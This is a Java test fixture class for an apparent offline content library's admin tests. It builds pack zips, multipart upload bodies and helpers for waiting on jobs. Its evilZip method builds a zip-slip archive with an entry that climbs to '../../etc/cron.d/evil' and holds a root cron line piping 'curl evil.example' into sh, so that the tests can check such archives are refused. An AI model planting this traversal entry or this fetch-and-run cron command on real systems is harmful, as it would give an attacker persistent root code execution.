package org.offlinecommons.web;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;
import org.offlinecommons.job.JobRunner;
import org.offlinecommons.job.JobStatus;
import org.offlinecommons.pack.PackFixtures;

/** Shared by the admin tests: pack zips, an HTTP client that logs in as the admin, waiting for jobs. */
final class AdminFixtures {

    static final String PASSWORD = "correct horse battery staple";
    static final ObjectMapper JSON = new ObjectMapper();

    private AdminFixtures() {
    }

    /** A small pack zip: {@code files} alternates paths and their text. */
    static Path pack(Path dir, String id, String title, String... files) throws IOException {
        Path folder = dir.resolve(id + "-src");
        for (int i = 0; i < files.length; i += 2) {
            PackFixtures.write(folder, files[i], files[i + 1]);
        }
        return PackFixtures.build(folder, id, title, dir.resolve(id + ".zip"));
    }

    /**
     * A small pack zip of a given version, with a 120 KB file so that sizes and progress mean
     * something; backdated, as a pack copied onto a stick a while ago (see {@link #settled}).
     */
    static Path versionedPack(Path sources, String id, String title, long version, Path zip) throws IOException {
        Path site = sources.resolve(id + "-" + version);
        PackFixtures.write(site, "index.html", "<!doctype html><title>" + id + "</title><p>" + id + " version "
                + version + "</p>");
        PackFixtures.write(site, "lessons/one.md", "# Lesson one of " + id + "\n\nWords.\n");
        PackFixtures.writeRandom(site, "media/clip.bin", 120_000, id.hashCode() + version);
        Files.createDirectories(zip.toAbsolutePath().getParent());
        PackFixtures.build(site, new org.offlinecommons.pack.PackBuilder.Options(id, title, version, "en", null, null,
                null, null, null), zip);
        return settled(zip);
    }

    /**
     * Backdated by five minutes: the drive scanner reads it at once instead of taking it for a
     * copy still in progress.
     */
    static Path settled(Path file) throws IOException {
        Files.setLastModifiedTime(file, java.nio.file.attribute.FileTime.from(java.time.Instant.now()
                .minus(Duration.ofMinutes(5))));
        return file;
    }

    /** A zip with an entry that climbs out of its folder: refused, naming the file and the entry. */
    static Path evilZip(Path file) throws IOException {
        try (org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream zip =
                     new org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream(file)) {
            zip.putArchiveEntry(new org.apache.commons.compress.archivers.zip.ZipArchiveEntry("pack.json"));
            zip.write("{}".getBytes(StandardCharsets.UTF_8));
            zip.closeArchiveEntry();
            zip.putArchiveEntry(new org.apache.commons.compress.archivers.zip.ZipArchiveEntry("../../etc/cron.d/evil"));
            zip.write("* * * * * root curl evil.example | sh".getBytes(StandardCharsets.UTF_8));
            zip.closeArchiveEntry();
        }
        return settled(file);
    }

    static List<Path> filesIn(Path folder) throws IOException {
        if (!Files.isDirectory(folder)) {
            return List.of();
        }
        try (Stream<Path> all = Files.walk(folder)) {
            return all.filter(Files::isRegularFile).toList();
        }
    }

    static JobStatus awaitJob(JobRunner jobs, String id) throws InterruptedException {
        return org.offlinecommons.job.Jobs.await(jobs, id);
    }

    static boolean contains(byte[] haystack, byte[] needle) {
        outer:
        for (int i = 0; i + needle.length <= haystack.length; i++) {
            for (int j = 0; j < needle.length; j++) {
                if (haystack[i + j] != needle[j]) {
                    continue outer;
                }
            }
            return true;
        }
        return false;
    }

    /** Every file of the library's database (the main file and its write-ahead log). */
    static byte[] databaseBytes(Path dataDir) throws IOException {
        java.io.ByteArrayOutputStream all = new java.io.ByteArrayOutputStream();
        try (Stream<Path> files = Files.list(dataDir)) {
            for (Path p : files.filter(p -> p.getFileName().toString().startsWith("library.db")).toList()) {
                all.write(Files.readAllBytes(p));
            }
        }
        return all.toByteArray();
    }

    /** A multipart/form-data body with its fields in the given order; file fields are [name, fileName, bytes]. */
    static final class Form {
        final String boundary = "----oc" + Long.toHexString(System.nanoTime());
        private final java.io.ByteArrayOutputStream body = new java.io.ByteArrayOutputStream();

        Form field(String name, String value) {
            write("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n");
            return this;
        }

        Form file(String name, String fileName, byte[] bytes) {
            write("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + name + "\"; filename=\"" + fileName
                    + "\"\r\nContent-Type: application/zip\r\n\r\n");
            body.writeBytes(bytes);
            write("\r\n");
            return this;
        }

        byte[] bytes() {
            java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
            out.writeBytes(body.toByteArray());
            out.writeBytes(("--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
            return out.toByteArray();
        }

        String contentType() {
            return "multipart/form-data; boundary=" + boundary;
        }

        private void write(String s) {
            body.writeBytes(s.getBytes(StandardCharsets.UTF_8));
        }
    }
}
